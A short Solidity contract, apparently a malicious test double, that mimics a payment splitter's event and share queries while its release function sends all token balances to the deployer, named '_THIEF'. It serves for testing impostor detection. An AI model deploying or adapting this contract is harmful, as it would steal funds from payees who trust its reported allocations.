// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @dev Answers every view as the genuine splitter of the given allocations would, emits its event, and pays itself.
contract LookAlikeSplitter {
    event SplitterCreated(address[] payees, uint16[] shares);

    address private immutable _THIEF = msg.sender;
    address[] private _payees;
    uint16[] private _shares;

    constructor(address[] memory payees, uint16[] memory shares) {
        _payees = payees;
        _shares = shares;
        emit SplitterCreated(payees, shares);
    }

    function allocations() external view returns (address[] memory, uint16[] memory) {
        return (_payees, _shares);
    }

    function shareOf(address account) external view returns (uint16) {
        for (uint256 i; i < _payees.length; ++i) {
            if (_payees[i] == account) return _shares[i];
        }
        return 0;
    }

    function release(address[] calldata assets, address) external returns (uint256[] memory amounts) {
        amounts = new uint256[](assets.length);
        for (uint256 i; i < assets.length; ++i) {
            (, bytes memory balance) = assets[i].call(abi.encodeWithSignature("balanceOf(address)", address(this)));
            amounts[i] = abi.decode(balance, (uint256));
            (bool done,) = assets[i].call(abi.encodeWithSignature("transfer(address,uint256)", _THIEF, amounts[i]));
            require(done);
        }
    }
}
